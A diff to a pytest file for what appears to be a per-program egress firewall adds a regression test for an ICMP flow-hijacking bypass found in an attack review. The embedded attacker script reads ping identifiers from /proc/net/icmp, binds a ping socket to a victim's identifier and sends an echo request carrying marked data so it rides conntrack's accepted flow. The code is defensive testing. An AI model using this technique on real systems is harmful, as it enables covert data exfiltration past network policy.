@@ -7,14 +7,22 @@ policy refused could still carry data to any host. Now its profile decides.
 
 The programs are copies of ping(8) at paths of the test's own (a copy has no file
 capabilities): with ping_group_range open it uses a ping socket, with it closed and
-CAP_NET_RAW given it uses a raw socket."""
+CAP_NET_RAW given it uses a raw socket.
+
+And an echo request on a flow another program's ping left accepted (rule 0e, found by an
+attack review): a ping socket's identifier is its bound "port", which any user reads from
+/proc/net/icmp and binds a ping socket of its own to once that program is done; conntrack
+still holds the flow accepted (30 s from its last packet), and rule 1 let the request out
+undecided, with whatever it carried. It is decided for its sender now."""
+import json
 import os
 import shutil
 
 import pytest
 
 from test_attribution import cgroup, in_cgroup, install, logged_rows, profiled  # noqa: F401
-from warden_lab import S4, S6
+from warden_cli import cli
+from warden_lab import PYTHON, S4, S6
 
 NOBODY = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
 # A raw socket needs CAP_NET_RAW: as an ambient capability, so that it survives the exec.
@@ -92,3 +100,89 @@ def test_a_ping_from_outside_the_attached_cgroup_is_nobodys(lab, cgroup, wardend
                     check=False)
     assert res.returncode != 0, "unknown = deny let a ping of nobody's through"
     assert ping(lab, cgroup, copies["allowed"], S4) == "reply"  # control
+
+
+# ---- rule 0e: an echo flow another program's ping left accepted ----------------------------
+# The attacker (python as nobody; no profile: engine default deny).
+#   own HOST                 one echo request from a ping socket of its own (kernel ident)
+#   watch SECS               prints every ping-socket identifier /proc/net/icmp shows meanwhile
+#   ride HOST IDENT          binds a ping socket to IDENT and sends an echo request carrying data
+PINGER = r"""
+import socket, struct, sys, time
+mode = sys.argv[1]
+def echo(host, ident=None):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    if ident is not None:
+        s.bind(("0.0.0.0", ident))
+    s.settimeout(1.5)
+    payload = b"EXFIL-secret-data"
+    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + payload, (host, 0))
+    try:
+        d = s.recv(200)
+        print("reply", d[8:].decode(errors="replace"), flush=True)
+    except socket.timeout:
+        print("timeout", flush=True)
+def idents():
+    out = set()
+    with open("/proc/net/icmp") as f:
+        for line in f.readlines()[1:]:
+            out.add(int(line.split()[1].split(":")[1], 16))
+    return out
+if mode == "own":
+    echo(sys.argv[2])
+elif mode == "watch":
+    seen, end = set(), time.monotonic() + float(sys.argv[2])
+    print("ready", flush=True)
+    while time.monotonic() < end:
+        seen |= idents()
+        time.sleep(0.002)
+    print("seen", *sorted(seen), flush=True)
+elif mode == "ride":
+    host, ident = sys.argv[2], int(sys.argv[3])
+    deadline = time.monotonic() + 5
+    while ident in idents() and time.monotonic() < deadline:  # until the victim's socket is gone
+        time.sleep(0.01)
+    echo(host, ident)
+"""
+
+
+def _pinger(lab, cg, *args):
+    res = lab.c.run(in_cgroup(cg, NOBODY + [PYTHON, "-c", PINGER] + [str(a) for a in args]),
+                    timeout=20, check=False)
+    return res.stdout.strip() + res.stderr.strip()
+
+
+def _rows(d):
+    out = cli(d, "log", "--json", "--limit", "0")
+    return [json.loads(line) for line in out.stdout.splitlines()]
+
+
+def test_an_echo_request_on_another_programs_accepted_icmp_flow_is_decided(lab, cgroup, wardend):
+    """The allowed ping (a copy of ping(8) whose profile allows everything) pings S4: its flow
+    (C4, S4, echo identifier X) is accepted and conntrack keeps it for 30 s. The attacker
+    (python, no profile: default deny; refused when it pings S4 from a socket of its own) reads
+    X from /proc/net/icmp (world-readable) while the ping runs, binds a ping socket of its own
+    to identifier X once the ping has exited, and sends S4 an echo request carrying its data.
+    Its packet is on the accepted flow's conntrack entry: rule 1 accepted it, undecided; rule
+    0e decides it for the attacker now."""
+    copies = ping_copies(lab)
+    ping_sockets(lab, True)
+    lab.ping(S4)
+    d = start(lab, wardend, cgroup, copies)
+    assert _pinger(lab, cgroup, "own", S4) == "timeout"  # control: the attacker is refused
+    watch = lab.c.spawn(in_cgroup(cgroup, NOBODY + [PYTHON, "-c", PINGER, "watch", "3"]),
+                        "watch", lines=True)
+    assert watch.wait_line(lambda t: t == "ready", timeout=10), watch.stderr_text()
+    res = lab.c.run(in_cgroup(cgroup, NOBODY + [copies["allowed"], "-n", "-c", "2", "-i", "0.3",
+                                                "-W", "1", S4]), timeout=10, check=False)
+    assert res.returncode == 0, res.stderr  # the allowed program's ping
+    seen = watch.wait_line(lambda t: t.startswith("seen"), timeout=10)
+    assert seen, watch.stderr_text()
+    idents = [int(x) for x in seen.split()[1:]]
+    assert idents, "no ping socket seen"
+    outcomes = [_pinger(lab, cgroup, "ride", S4, ident) for ident in idents]
+    rows = [(r.get("action"), r.get("protocol"), r.get("remote_addr"), r.get("local_port"),
+             r.get("profile"), r.get("decided_by")) for r in _rows(d)]
+    print("idents", idents, "outcomes", outcomes, "rows", rows)
+    assert not any(o.startswith("reply") for o in outcomes), \
+        f"BYPASS: the attacker's echo request rode the allowed ping's flow: {outcomes} {rows}"
